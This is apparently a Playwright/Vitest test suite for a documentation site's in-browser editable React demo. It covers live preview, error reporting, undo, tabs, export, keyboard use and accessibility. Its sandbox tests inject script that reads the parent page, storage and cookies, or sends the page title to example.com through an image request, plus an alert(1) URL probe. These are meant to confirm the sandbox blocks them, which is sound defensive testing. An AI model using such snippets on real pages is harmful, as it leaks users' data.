import { readFileSync } from 'node:fs';
import axe from 'axe-core';
import { strFromU8, unzipSync } from 'fflate';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sharedChromium } from '../support/chromium.ts';
import { temporaryFolder } from '../support/folder.ts';
import type { ServedSite } from '../support/served-site.ts';
import { smallSite } from './small-site.ts';
import { type Reader, visit } from './visit.ts';

const kite = `import { useState } from 'react';
import { colours } from './colours';
import picture from './kite.svg';
import styles from './Kite.module.css';

interface Props {
  readonly wind: number;
}

function Line({ wind }: Props) {
  return <p data-part="line">Wind of {wind} knots</p>;
}

export default function Kite() {
  const [wind, setWind] = useState<number>(7);
  return (
    <div className={styles.sky}>
      <h3>A red kite</h3>
      <img src={picture} alt="A kite" width={24} height={24} />
      <Line wind={wind} />
      <p data-part="colours">{colours.join(', ')}</p>
      <button type="button" onClick={() => setWind(wind + 1)}>
        More wind
      </button>
    </div>
  );
}
`;

const files: Readonly<Record<string, string>> = {
  'site.yaml':
    'name: Kite\nfavicon: /favicon.svg\ndefaultProduct: kite\nproducts: [{ id: kite, name: Kite }]\n',
  'pages.yaml': 'pages: [{ pathname: /, title: Kite }, { pathname: /other, title: Other }]\n',
  'index.md':
    '# Kite\n\n<p class="description">Fly it.</p>\n\n{{"demo": "Kite.tsx"}}\n\nText below.\n\n{{"demo": "Still.tsx"}}\n',
  'other/other.md': '# Other\n\n<p class="description">Another page.</p>\n',
  'public/favicon.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>\n',
  'Kite.tsx': kite,
  'Still.tsx': 'export default function Still() {\n  return <p>No wind</p>;\n}\n',
  'colours.ts': "export const colours: readonly string[] = ['red', 'white'];\n",
  'Kite.module.css': '.sky {\n  padding-top: 13px;\n}\n',
  'kite.svg': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><path d="M0 0h2v2z"/></svg>\n',
};

const browser = await sharedChromium();
let small: ServedSite;
beforeAll(async () => {
  small = await smallSite(temporaryFolder(), files);
});
afterAll(async () => {
  small.close();
});

interface Opened {
  readonly page: Page;
  readonly demo: Locator;
  readonly tool: (name: string, value?: string) => Locator;
  readonly code: Locator;
  readonly problem: Locator;
  /** The changed demo. */
  readonly edited: Locator;
  /** Replaces a text in the code, as a reader would. */
  readonly change: (from: string, to: string) => Promise<void>;
}

/** Opens the editor of the demo. The console must stay empty except for expected lines. */
async function editing(
  use: (opened: Opened) => Promise<void>,
  { expected, ...reader }: Reader & { readonly expected?: RegExp } = {},
): Promise<void> {
  const { page, problems, close } = await visit(browser, `${small.origin}/`, reader);
  const demo = page.locator('#Kite');
  const tool = (name: string, value?: string) =>
    demo.locator(`[data-tool="${name}"]${value === undefined ? '' : `[value="${value}"]`}`);
  const code = demo.locator('.cm-content');
  await page.locator('#Kite[data-demo-state="live"]').waitFor();
  await tool('edit').click();
  await code.waitFor();
  const change = async (from: string, to: string) => {
    await code.focus();
    await page.keyboard.press('Control+f');
    await page.keyboard.type(from);
    await page.keyboard.press('Enter');
    await page.keyboard.press('Escape');
    await page.keyboard.insertText(to);
  };
  // For a moment, the next demo is beside it.
  const edited = demo.frameLocator('iframe').locator('.demo-live:not([data-unseen])');
  await use({ page, demo, tool, code, change, edited, problem: demo.locator('.demo-problem') });
  await close();
  expect(problems.filter((problem) => !expected?.test(problem))).toEqual([]);
}

const said = (page: Page, text: string) =>
  page.locator('[role="status"]', { hasText: text }).waitFor({ state: 'attached' });

const shows = (place: Locator, text: string) => expect.poll(() => place.textContent()).toContain(text);

/** Waits for the image, which comes after the text. */
const hasImage = (edited: Locator) =>
  expect
    .poll(() => edited.locator('img').evaluate((img: HTMLImageElement) => img.naturalWidth))
    .toBeGreaterThan(0);

const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());

test('a change is shown after a pause, with the files, styles and images of the demo', () =>
  editing(async ({ page, demo, change, edited, problem }) => {
    expect(await demo.locator('.demo-live h3').isVisible()).toBe(true);
    const stage = async () => (await demo.locator('.demo-stage').boundingBox())?.height;
    const before = await stage();
    await change('A red kite', 'A green kite');
    await shows(edited.locator('h3'), 'A green kite');
    await said(page, 'The demo shows your changes');
    expect(await problem.textContent()).toBe('');
    expect(await demo.locator('.demo-live h3').isVisible()).toBe(false);
    expect(await edited.locator('[data-part="colours"]').textContent()).toBe('red, white');
    const sky = edited.locator('h3').locator('..');
    expect(await sky.evaluate((div) => getComputedStyle(div).paddingTop)).toBe('13px');
    await hasImage(edited);
    await edited.getByRole('button').click();
    await shows(edited.locator('[data-part="line"]'), 'Wind of 8 knots');
    await expect.poll(stage).toBe(before);
  }));

test('a mistake is shown with its line, and the last working demo stays until it is fixed', () =>
  editing(async ({ page, demo, code, change, edited, problem }) => {
    await change('A red kite', 'A green kite');
    await shows(edited.locator('h3'), 'A green kite');
    await change('</h3>', '</h2>');
    await shows(problem, 'Kite.tsx, line 18, column');
    expect(await problem.textContent()).toContain('<h3>');
    await said(page, 'Kite.tsx, line 18');
    expect(await edited.locator('h3').textContent()).toBe('A green kite');
    expect(await code.locator('.cm-lintRange-error').count()).toBe(1);
    await change('</h2>', '</h3>');
    await expect.poll(() => problem.textContent()).toBe('');
    await change('Wind of {wind}', 'Wind of {(wind as any).speed.knots}');
    await shows(problem, 'Kite.tsx, line 11: ');
    expect(await edited.locator('h3').textContent()).toBe('A green kite');
    await page.keyboard.press('Control+z');
    await expect.poll(() => problem.textContent()).toBe('');
    expect(await demo.locator('iframe').count()).toBe(1);
  }));

test('undo leads back to the code as it is written, and "reset" does so at once', () =>
  editing(async ({ page, code, tool, change, edited }) => {
    await change('A red kite', 'A green kite');
    await shows(edited.locator('h3'), 'A green kite');
    await code.focus();
    await page.keyboard.press('Control+z');
    await shows(edited.locator('h3'), 'A red kite');
    await change('A red kite', 'A blue kite');
    await change('More wind', 'Storm');
    await shows(edited.getByRole('button'), 'Storm');
    await edited.getByRole('button').click();
    await tool('reset').click();
    await said(page, 'The original code is back');
    await shows(edited.getByRole('button'), 'More wind');
    await shows(edited.locator('h3'), 'A red kite');
    expect(await edited.locator('[data-part="line"]').textContent()).toBe('Wind of 7 knots');
    await code.focus();
    await page.keyboard.press('Control+z');
    await shows(edited.getByRole('button'), 'Storm');
  }));

test('what the demo does not offer is refused by name, and what it offers listed', () =>
  editing(async ({ change, problem, edited }) => {
    await change("'./colours'", "'left-pad'");
    await shows(problem, '“left-pad” cannot be imported here');
    expect(await problem.textContent()).toMatch(/^Kite\.tsx, line 2: .*react/);
    await change("'left-pad'", "'./shapes'");
    await shows(problem, '“./shapes” cannot be imported here');
    await change("'./shapes'", "'./colours'");
    await shows(edited.locator('[data-part="colours"]'), 'red, white');
  }));

test('every file is a tab, and a change of one is a change of the demo', () =>
  editing(async ({ page, demo, code, change, edited }) => {
    const tabs = demo.locator('.demo-editor').getByRole('tab');
    expect(await tabs.allTextContents()).toEqual(['Kite.tsx', 'colours.ts', 'Kite.module.css']);
    await tabs.first().focus();
    await page.keyboard.press('ArrowRight');
    await demo.locator('.demo-editor [aria-selected="true"]:focus', { hasText: 'colours.ts' }).waitFor();
    expect(await code.getAttribute('aria-label')).toBe('Code of Kite, colours.ts');
    await change("'white'", "'violet'");
    await shows(edited.locator('[data-part="colours"]'), 'red, violet');
    await tabs.nth(2).click();
    await change('13px', '31px');
    const sky = edited.locator('h3').locator('..');
    await expect.poll(() => sky.evaluate((div) => getComputedStyle(div).paddingTop)).toBe('31px');
  }));

test('copy and export take what the reader has made', () =>
  editing(
    async ({ page, tool, change }) => {
      await change('A red kite', 'A green kite');
      await said(page, 'The demo shows your changes');
      await tool('copy').click();
      await said(page, 'Code copied');
      expect(await clipboard(page)).toBe(kite.replace('A red kite', 'A green kite'));
      const download = page.waitForEvent('download');
      await tool('export', 'zip').click();
      const zip = unzipSync(readFileSync(await (await download).path()));
      expect(strFromU8(zip['kite-demo/src/Kite.tsx'] ?? new Uint8Array())).toContain('A green kite');
      expect(strFromU8(zip['kite-demo/src/kite.svg'] ?? new Uint8Array())).toBe(files['kite.svg']);
    },
    { permissions: ['clipboard-read', 'clipboard-write'], acceptDownloads: true },
  ));

test('closing shows the demo as it is written; the changes wait for the reader', () =>
  editing(
    async ({ page, demo, code, tool, change, edited }) => {
      await change('A red kite', 'A green kite');
      await shows(edited.locator('h3'), 'A green kite');
      await hasImage(edited);
      await tool('edit').click();
      await said(page, 'Your changes are kept');
      expect(await demo.locator('iframe, .demo-editor').count()).toBe(0);
      expect(await demo.locator('.demo-live h3').textContent()).toBe('A red kite');
      expect(await demo.locator('.demo-live h3').isVisible()).toBe(true);
      await tool('copy').click();
      await said(page, 'Code copied');
      expect(await clipboard(page)).toBe(kite);
      await tool('edit').click();
      await shows(edited.locator('h3'), 'A green kite');
      await code.focus();
      await page.keyboard.press('Control+z');
      await shows(edited.locator('h3'), 'A red kite');
    },
    { permissions: ['clipboard-read', 'clipboard-write'] },
  ));

test('the changes survive another mode, another direction and another language of the code', () =>
  editing(async ({ page, demo, code, tool, change, edited }) => {
    await change('A red kite', 'A green kite');
    await shows(edited.locator('h3'), 'A green kite');
    await edited.getByRole('button').click();
    await page.evaluate(() => {
      localStorage.setItem('mui-mode', 'dark');
      localStorage.setItem('mui-direction', 'rtl');
      // The event that another tab would cause.
      dispatchEvent(new StorageEvent('storage', { key: null }));
    });
    const root = demo.frameLocator('iframe').locator('html');
    await expect.poll(() => root.getAttribute('dir')).toBe('rtl');
    expect(await root.getAttribute('data-mui-color-scheme')).toBe('dark');
    expect(await edited.locator('[data-part="line"]').textContent()).toBe('Wind of 8 knots');
    expect(await code.evaluate((element) => getComputedStyle(element).direction)).toBe('ltr');
    await tool('variant', 'JS').click();
    await said(page, 'Your changes are in TypeScript');
    expect(await demo.locator('.demo-editor-help').textContent()).toContain('TypeScript');
    expect(await edited.locator('h3').textContent()).toBe('A green kite');
    await tool('variant', 'TS').click();
    await shows(demo.locator('.demo-editor-help'), 'Escape, then Tab');
  }));

test('an editor in which nothing was changed follows the language of the code', () =>
  editing(
    async ({ page, code, tool, change, edited }) => {
      await tool('variant', 'JS').click();
      await expect.poll(() => code.getAttribute('aria-label')).toBe('Code of Kite, Kite.js');
      await change('A red kite', 'A plain kite');
      await shows(edited.locator('h3'), 'A plain kite');
      expect(await page.locator('.cm-editor').count()).toBe(1);
    },
    // Its first frame is removed while it loads.
    { expected: /ERR_ABORTED/ },
  ));

test('the keyboard alone opens it, writes in it and leaves it', () =>
  editing(
    async ({ page, demo, code, tool, edited }) => {
      await tool('edit').focus();
      await page.keyboard.press('Enter');
      await code.waitFor({ state: 'detached' });
      await page.keyboard.press('Enter');
      await demo.locator('.cm-content:focus').waitFor();
      await said(page, 'Escape, then Tab, leaves it');
      await page.keyboard.press('Control+Home');
      await page.keyboard.type("const speed = 'fast';");
      await page.keyboard.press('Tab');
      expect(await demo.locator('.cm-content:focus').count()).toBe(1);
      expect(await code.textContent()).toContain("const speed = 'fast';");
      // The editor takes a Tab for a way out for only two seconds after the Escape.
      await page.evaluate(() => {
        const now = Date.now();
        Date.now = () => now;
      });
      await page.keyboard.press('Escape');
      await page.keyboard.press('Tab');
      expect(await demo.locator('.cm-content:focus').count()).toBe(0);
      await shows(edited.locator('h3'), 'A red kite');
    },
    // Closed at once, the frame is removed while it loads.
    { expected: /ERR_ABORTED/ },
  ));

test('code without an end leaves the page alone, and the next change runs again', () =>
  editing(async ({ page, change, edited, problem }) => {
    await change('useState<number>(7);', 'useState<number>(7); for (;;);');
    // The page itself waits for 13 seconds.
    await expect.poll(() => problem.textContent()).toContain('does not finish');
    await page.keyboard.press('Control+z');
    await change('A red kite', 'A calm kite');
    await shows(edited.locator('h3'), 'A calm kite');
    // The result of a run comes after what it shows.
    await expect.poll(() => problem.textContent()).toBe('');
  }));

describe('changed code', () => {
  const attempts: readonly (readonly [what: string, expression: string, outcome: RegExp])[] = [
    ['the page', 'parent.document.title', /SecurityError/],
    ['the storage', 'localStorage.length', /SecurityError/],
    ['the cookies', 'document.cookie', /SecurityError/],
    ['the top window', "(top.location.href = 'https://example.com/')", /SecurityError/],
  ];
  test.each(attempts)('cannot reach %s', (_, expression, outcome) =>
    editing(
      async ({ change, edited, page }) => {
        const attempt = `{(() => { try { return 'reached ' + ${expression}; } catch (error) { return (error as Error).name; } })()}`;
        await change('A red kite', attempt);
        await expect.poll(() => edited.locator('h3').textContent()).toMatch(outcome);
        expect(page.url()).toBe(`${small.origin}/`);
      },
      // The browser says so in the console.
      { expected: /Unsafe attempt|navigate/ },
    ),
  );

  test('cannot send anything anywhere', () =>
    editing(
      async ({ page, change, edited }) => {
        const sent: string[] = [];
        page.on('requestfinished', (request) => sent.push(request.url()));
        const attempt =
          "<b ref={(node) => { fetch('/index.md').then(() => 'sent', () => 'kept').then((text) => { if (node) node.textContent = text; }); new Image().src = 'https://example.com/?' + document.title; }} />";
        await change('A red kite', attempt);
        await shows(edited.locator('h3 b'), 'kept');
        expect(sent.filter((url) => url.includes('example.com') || url.endsWith('.md'))).toEqual([]);
      },
      { expected: /Content Security Policy|violates|csp$/ },
    ));
});

/** What a frame says within `limit` ms of loading when the page at `address` hands it a channel. */
async function answerTo(page: Page, address: string, limit: number): Promise<string> {
  await page.goto(address);
  return page.evaluate(
    ({ src, limit }) =>
      new Promise<string>((resolve) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = src;
        frame.onload = () => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => resolve('answered');
          frame.contentWindow?.postMessage('docs:demo-frame', '*', [port2]);
          setTimeout(resolve, limit, 'silence');
        };
        document.body.append(frame);
      }),
    { src: `${small.origin}/demo-frame/kite/`, limit },
  );
}

test('a frame runs nothing but what its page hands to it', async () => {
  const { page, close } = await visit(browser, `${small.origin}/`);
  const stranger = 'http://stranger.test/';
  await page.route(stranger, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Stranger</title>' }),
  );
  // On a host that sends no policies, every page can hold the frame.
  const served = `${small.origin}/**`;
  await page.route(served, async (route) => {
    const response = await route.fetch();
    const { 'content-type': type = '' } = response.headers();
    await route.fulfill({ response, headers: { 'content-type': type, 'access-control-allow-origin': '*' } });
  });
  expect(await answerTo(page, `${small.origin}/`, 120_000)).toBe('answered');
  expect(await answerTo(page, stranger, 2000)).toBe('silence');
  await page.unroute(served);
  // Opened by itself, it has the policy of a sandbox, whatever its address is.
  const opened = async (address: string) => {
    await page.goto(`${small.origin}/demo-frame/kite/${address}`);
    return page.evaluate(() => [self.origin, document.body.textContent]);
  };
  const plain = await opened('');
  expect(plain[0]).toBe('null');
  expect(await opened('?code=alert(1)#alert(1)')).toEqual(plain);
  await close();
});

/** Number of living objects with this prototype. */
async function countAlive(page: Page, prototype: string): Promise<number> {
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('HeapProfiler.enable');
  await cdp.send('HeapProfiler.collectGarbage');
  const { result } = await cdp.send('Runtime.evaluate', { expression: prototype });
  const { objects } = await cdp.send('Runtime.queryObjects', { prototypeObjectId: result.objectId ?? '' });
  const { result: count } = await cdp.send('Runtime.callFunctionOn', {
    objectId: objects.objectId ?? '',
    functionDeclaration: 'function () { return this.length; }',
  });
  await cdp.detach();
  return Number(count.value);
}

test('a page that is left takes its editors and frames along', () =>
  editing(async ({ page, change, edited }) => {
    await change('A red kite', 'A green kite');
    await shows(edited.locator('h3'), 'A green kite');
    await hasImage(edited);
    const frames = () => page.frames().length;
    expect(frames()).toBe(2);
    await page.evaluate(() => {
      document.querySelector('main')?.replaceChildren();
      document.dispatchEvent(new CustomEvent('docs:page'));
    });
    await expect.poll(frames).toBe(1);
    const alive = (name: string) => countAlive(page, name);
    await expect.poll(() => alive('HTMLIFrameElement.prototype')).toBe(0);
  }));

test.each(['light', 'dark'] as const)('axe finds nothing in an open editor, %s', (colorScheme) =>
  editing(
    async ({ page, change, problem }) => {
      await change('</h3>', '</h2>');
      await shows(problem, 'line 18');
      await page.evaluate(axe.source);
      const violations = await page.evaluate(async () => {
        const { axe: inPage } = globalThis as unknown as { axe: typeof axe };
        const found = await inPage.run('#Kite .demo-editor', { iframes: false });
        return found.violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html)}`);
      });
      expect(violations).toEqual([]);
    },
    { colorScheme },
  ),
);
